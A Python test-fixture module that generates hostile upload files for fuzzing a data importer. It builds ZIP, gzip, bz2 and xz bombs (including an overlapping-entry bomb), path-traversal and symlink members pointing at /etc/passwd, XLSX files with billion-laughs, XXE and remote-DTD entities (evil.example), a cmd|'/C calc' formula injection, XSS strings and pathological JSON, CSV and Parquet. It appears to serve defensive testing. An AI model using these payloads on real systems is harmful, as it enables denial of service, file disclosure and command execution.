"""Files that mean harm, made here: bombs, liars, climbers and nonsense of every format, none above 100 MB."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tempfile
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Final

import polars as pl

MIB: Final = 1 << 20
TEXT: Final = b"order_id,customer_id,order_date,amount\n1,C1,2026-01-01 10:00:00,5.00\n"


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def nested(levels: int, wide: int = 1) -> bytes:
    data = zipped({"orders.csv": TEXT})
    for _ in range(levels):
        data = zipped({f"{index}.zip": data for index in range(wide)})
    return data


def overlapping(members: int, each: int) -> bytes:
    """Many entries that all point to the same packed bytes, as the smallest known bombs do."""
    data = bytes(each)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(data) + packer.flush()
    crc = zlib.crc32(data)
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), each, 5, 0) + b"a.csv"
    out = head + packed
    listed = b""
    for index in range(members):
        name = b"%04d.csv" % index
        listed += (
            struct.pack(
                "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), each, len(name), 0, 0, 0, 0, 0, 0
            )
            + name
        )
    return out + listed + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, members, members, len(listed), len(out), 0)


def claiming(size: int) -> bytes:
    """An archive whose list says that its one file is this large."""
    data = bytearray(zipped({"a.csv": TEXT * 100}))
    at = data.rindex(b"PK\1\2") + 24
    data[at : at + 4] = struct.pack("<I", size)
    return bytes(data)


def archives() -> dict[str, bytes]:
    blank = bytes(80 * MIB)
    names = {
        "climbs": "../../../../tmp/evil.csv", "absolute": "/tmp/evil.csv", "drive": "C:\\evil.csv", "share": "\\\\host\\x\\evil.csv",  # noqa: S108
        "long": "x" * 5_000 + ".csv", "device": "CON", "line": "a\r\nb.csv", "turned": "\u202evsc.exe", "dots": "...",
        "empty": "", "blank": " ", "deep": "a/" * 500 + "b.csv", "markup": "<img src=x onerror=window.__hit=1>.csv",
    }  # fmt: skip
    found = {f"named-{what}.zip": zipped({name: TEXT}) for what, name in names.items()}
    link = zipfile.ZipInfo("link.csv")
    link.external_attr = 0o120777 << 16
    linked = io.BytesIO()
    with zipfile.ZipFile(linked, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    nul = zipped({"aXb.csv": TEXT}).replace(b"aXb.csv", b"a\0b.csv")
    locked = bytearray(zipped({"a.csv": TEXT}))
    locked[6] |= 1
    locked[locked.rindex(b"PK\1\2") + 8] |= 1
    unknown = zipped({"a.csv": TEXT}).replace(b"PK\3\4\x14\0\0\0\x08", b"PK\3\4\x14\0\0\0\x63").replace(b"PK\1\2\x14\x03\x14\0\0\0\x08", b"PK\1\2\x14\x03\x14\0\0\0\x63")  # fmt: skip
    return found | {
        "nested.zip": nested(3),
        "forty-two.zip": nested(4, 8),
        "quine-like.zip": zipped({"a.zip": nested(1), "b.csv": TEXT}),
        "overlap-refused.zip": overlapping(60, 64 * MIB),
        "overlap-huge.zip": overlapping(5_000, 64 * MIB),
        "ratio.zip": zipped({"a.csv": blank}),
        "ratio-bzip2.zip": zipped({"a.csv": blank}, zipfile.ZIP_BZIP2),
        "ratio-lzma.zip": zipped({"a.csv": blank}, zipfile.ZIP_LZMA),
        "entries.zip": zipped(dict.fromkeys(map("{}.csv".format, range(20_000)), b"")),
        "twice.zip": zipped({"a.csv": TEXT}) + zipped({"b.csv": TEXT}),
        "understated.zip": claiming(10),
        "overstated.zip": claiming(0xFFFFFFF0),
        "linked.zip": linked.getvalue(),
        "nul-name.zip": nul,
        "locked.zip": bytes(locked),
        "unknown-method.zip": unknown,
        "only-folders.zip": zipped({"a/": b"", "b/c/": b""}),
        "only-end.zip": b"PK\5\6" + bytes(18),
        "no-end.zip": zipped({"a.csv": TEXT * 1_000})[:-22],
        "comment.zip": zipped({"a.csv": TEXT})[:-2] + b"\xff\xff" + b"x" * 0xFFFF,
        "ratio.csv.gz": gzip.compress(blank, 9),
        "many-members.csv.gz": gzip.compress(TEXT, 9) * 20_000,
        "gzip-in-gzip.csv.gz": gzip.compress(gzip.compress(blank, 9), 9),
        "zip-in-gzip.csv.gz": gzip.compress(zipped({"a.csv": TEXT})),
        "named.csv.gz": b"\x1f\x8b\x08\x08\0\0\0\0\0\xff../../evil\0" + gzip.compress(TEXT)[10:],
        "tail.csv.gz": gzip.compress(TEXT) + b"garbage" * 100,
        "empty.csv.gz": gzip.compress(b""),
        "crc.csv.gz": gzip.compress(TEXT)[:-8] + bytes(8),
        "bomb.csv.bz2": bz2.compress(blank),
        "bomb.csv.xz": lzma.compress(blank),
        "bomb.csv.zst": b"\x28\xb5\x2f\xfd" + bytes(64),
        "bomb.7z": b"7z\xbc\xaf\x27\x1c" + bytes(64),
        "bomb.rar": b"Rar!\x1a\x07\x01\0" + bytes(64),
        "tar.tar": bytes(257) + b"ustar" + bytes(300),
    }


def parquet(frame: pl.DataFrame, **options: object) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.parquet"
        frame.write_parquet(path, **options)  # type: ignore[arg-type]
        return path.read_bytes()


def parquets() -> dict[str, bytes]:
    deep = pl.Series("a", [{"x": 1}])
    for _ in range(60):
        deep = pl.DataFrame({"x": deep}).to_struct("a")
    lying = parquet(pl.DataFrame({"a": range(1_000)}), compression="uncompressed")
    foot = lying.rindex(b"\xd0\x0f")  # the number of rows, 1,000, as the footer writes it
    return {
        "one-value-many-rows.parquet": parquet(pl.DataFrame({"a": pl.repeat("x", 30 * MIB, eager=True)})),
        "long-value-many-rows.parquet": parquet(pl.DataFrame({"a": pl.repeat("x" * 2_000, 2 * MIB, eager=True)})),
        "wide.parquet": parquet(pl.DataFrame({f"c{index}": [1] for index in range(5_000)})),
        "deep.parquet": parquet(deep.to_frame()),
        "lying.parquet": lying[:foot] + b"\xfe\x7f" + lying[foot + 2 :],
        "footer-length.parquet": lying[:-8] + b"\xff\xff\xff\x7fPAR1",
        "footer-zero.parquet": lying[:-8] + b"\0\0\0\0PAR1",
        "only-magic.parquet": b"PAR1PAR1PAR1",
        "noise.parquet": b"PAR1" + bytes(range(256)) * 40 + b"\x40\0\0\0PAR1",
        "names.parquet": parquet(
            pl.DataFrame({"../../x": [1], "a\0b": [1], "": [1], "<script>": [1], "x" * 9_000: [1]})
        ),
        "lists.parquet": parquet(pl.DataFrame({"a": [[[[[["x"]]]]]]})),
        "no-columns.parquet": parquet(pl.DataFrame()),
    }


_BOOK: Final = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
}
_SHEET: Final = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}<sheetData>{}</sheetData></worksheet>'
_ROWS: Final = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c></row>'
_STRINGS: Final = (
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>a</t></si><si><t>{}</t></si></sst>'
)


def book(sheet: str = "", strings: str = "", **more: str) -> bytes:
    parts = _BOOK | {
        "xl/worksheets/sheet1.xml": sheet or _SHEET.format("", _ROWS),
        "xl/sharedStrings.xml": strings or _STRINGS.format("b"),
    }
    return zipped({name: text.encode() for name, text in (parts | more).items()})


def workbooks() -> dict[str, bytes]:
    laughs = (
        '<!DOCTYPE x [<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{index} "{f"&a{index - 1};" * 10}">' for index in range(1, 12))
        + "]>"
    )
    outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    beyond = '<row r="4294967295"><c r="ZZZZZZ4294967295"><v>2</v></c></row>'
    return {
        "sound.xlsx": book(),
        "laughs.xlsx": book(strings=laughs + _STRINGS.format("&a11;")),
        "laughs-sheet.xlsx": book(laughs + _SHEET.format("", _ROWS.replace("<v>1</v>", "<v>&a11;</v>"))),
        "outside.xlsx": book(strings=outside + _STRINGS.format("&a;")),
        "remote.xlsx": book(strings=remote + _STRINGS.format("b")),
        "far.xlsx": book(_SHEET.format('<dimension ref="A1:XFD1048576"/>', far)),
        "far-unsaid.xlsx": book(_SHEET.format("", far)),
        "claimed.xlsx": book(_SHEET.format('<dimension ref="A1:XFD1048576"/>', _ROWS)),
        "beyond.xlsx": book(_SHEET.format("", beyond)),
        "merged.xlsx": book(_SHEET.format("", _ROWS).replace("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
        "shared-index.xlsx": book(_SHEET.format("", _ROWS.replace("<v>0</v>", "<v>4294967295</v>"))),
        "shared-bomb.xlsx": book(strings=_STRINGS.format("x" * (70 * MIB))),
        "deep-xml.xlsx": book("<a>" * 500_000),
        "link-outside.xlsx": book(**{"xl/_rels/workbook.xml.rels": _BOOK["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "../../../../etc/passwd")}),
        "formula.xlsx": book(_SHEET.format("", _ROWS.replace("<v>1</v>", "<f>cmd|'/C calc'!A0</f><v>=1+1</v>"))),
        "numbers.xlsx": book(_SHEET.format("", _ROWS.replace("<v>1</v>", "<v>1e99999</v>"))),
        "many-sheets.xlsx": book(**{"xl/workbook.xml": _BOOK["xl/workbook.xml"].replace("</sheets>", "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="r1"/>' for i in range(2, 3_000)) + "</sheets>")}),
        "sheet-name.xlsx": book(**{"xl/workbook.xml": _BOOK["xl/workbook.xml"].replace('name="S"', 'name="&lt;img src=x onerror=window.__hit=1&gt;/../x"')}),
        "no-sheet.xlsx": zipped({"xl/workbook.xml": b"<workbook/>"}),
        "old.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2_000,
    }  # fmt: skip


def jsons() -> dict[str, bytes]:
    inner = "[" * 2_000 + "]" * 2_000
    chain = '{"a":' * 2_000 + "1" + "}" * 2_000
    return {
        "arrays.json": b"[" * 5_000_000,
        "objects.json": b'{"a":' * 1_000_000,
        "closed-arrays.json": b"[" * 100_000 + b"]" * 100_000,
        "deep-cell.json": f'[{{"id": 1, "x": {inner}}}]'.encode(),
        "deep-object-cell.json": f'[{{"id": 1, "x": {chain}}}]'.encode(),
        "deep-lines.ndjson": "\n".join(f'{{"id": {i}, "x": {chain}}}' for i in range(20)).encode(),
        "digits.json": b'[{"a": ' + b"9" * 5_000_000 + b"}]",
        "exponent.json": b'[{"a": 1e999999999, "b": -1e999999999}]',
        "no-numbers.json": b'[{"a": NaN, "b": Infinity, "c": -Infinity}]',
        "surrogates.json": b'[{"a": "\\ud800", "\\udfff": "b", "c": "x\\u0000y"}]',
        "keys.json": json.dumps([{f"k{i}": i for i in range(100_000)}]).encode(),
        "ever-new-keys.json": json.dumps([{f"k{i}": i} for i in range(20_000)]).encode(),
        "one-string.json": b'[{"a": "' + b"x" * (8 * MIB) + b'"}]',
        "same-key.json": b"[{" + b'"a": 1, ' * 100_000 + b'"a": 2}]',
        "bytes.json": b'[{"a": "\xff\xfe\xfd"}]',
        "empty-key.json": b'[{"": 1, "__proto__": 2, "../x": 3}]',
        "nothing.json": b"null",
        "empty-list.json": b"[]",
        "mixed.json": b'[1, "a", null, {"a": 1}, [2]]',
    }


def texts() -> dict[str, bytes]:
    rows = b"1,C1,2026-01-01,5\n"
    return {
        "one-line.csv": b"a," * (4 * MIB),
        "one-cell.csv": b"a,b\n" + b"x" * (20 * MIB),
        "one-word.csv": b"x" * (20 * MIB),
        "open-quote.csv": b'a,b\n"' + b"x,y\n" * (MIB // 4),
        "quotes.csv": b'"' * (8 * MIB),
        "lines.csv": b"\n" * (40 * MIB),
        "returns.csv": b"a,b\r1,2\r" * MIB,
        "blanks.csv": b" " * (40 * MIB),
        "nuls.csv": b"a,b\n" + b"\0" * (20 * MIB),
        "columns.csv": b",".join(b"c%d" % index for index in range(1_000_000)) + b"\n",
        "ragged.csv": b"a,b\n" + b"".join(b"1" + b",2" * (index % 90) + b"\n" for index in range(60_000)),
        "same-names.csv": b",".join([b"a"] * 800) + b"\n" + b",".join([b"1"] * 800) + b"\n",
        "invalid.csv": b"a,b\n" + bytes(range(128, 256)) * 400 + b",1\n",
        "half-gb.csv": "名,b\n上,1\n".encode("gb18030")[:-3],
        "two-codes.csv": "name,b\n上海,1\n".encode() + "上海,2\n".encode("gb18030"),
        "odd-utf16.csv": "a,b\n1,2\n".encode("utf-16")[:-1],
        "lone-utf16.csv": b"\xff\xfea\0,\0b\0\n\0" + b"\x00\xd8" * 50,
        "utf16-no-mark.csv": "a,b\n1,2\n".encode("utf-16-le"),
        "utf32.csv": "a,b\n1,2\n".encode("utf-32"),
        "utf7.csv": b"a,b\n+ADw-script+AD4-,1\n",
        "two-marks.csv": b"\xef\xbb\xbf\xef\xbb\xbfa,b\n1,2\n",
        "mark-inside.csv": b"a,b\n\xef\xbb\xbf1,2\n\xff\xfe3,4\n",
        "overlong.csv": b"a,b\n\xc0\xaf\xe0\x80\xaf,1\n",
        "surrogate-bytes.csv": b"a,b\n\xed\xa0\x80,1\n",
        "control.csv": b"a,b\n" + bytes(range(1, 32)) + b",1\n",
        "dates.csv": b"order_id,customer_id,order_date,amount\n" + b"1,C1,999999999999-99-99 99:99:99,5\n" * 500,
        "amounts.csv": b"order_id,customer_id,order_date,amount\n" + b"1,C1,2026-01-01," + b"9" * 4_000 + b"\n",
        "infinite.csv": b"order_id,customer_id,order_date,amount\n2,C1,2026-01-01,1e308\n3,C1,2026-01-02,-inf\n4,C1,2026-01-02,nan\n",
        "patterns.csv": b"order_id,customer_id,order_date,amount\n(a+)+$,.*,2026-01-01,5\n"
        + b"a" * 50_000
        + b"!,[,2026-01-01,5\n",
        "places.csv": b"store_id,store_name,lat,lng\nS1,x,1e400,999\nS2,y,nan,-inf\n",
        "sniff.csv": b",;\t|" * 10_000 + b"\n" + rows,
        "web.csv": b"<html><script>window.__hit=1</script>",
        "drawing.csv": b"<svg onload=window.__hit=1>",
        "program.csv": b"MZ\0\0" + bytes(100),
        "empty.csv": b"",
        "one-byte.csv": b"\0",
        "mark-only.csv": b"\xef\xbb\xbf",
    }


def hostile_files() -> dict[str, bytes]:
    """All of them by name."""
    return archives() | parquets() | workbooks() | jsons() | texts()
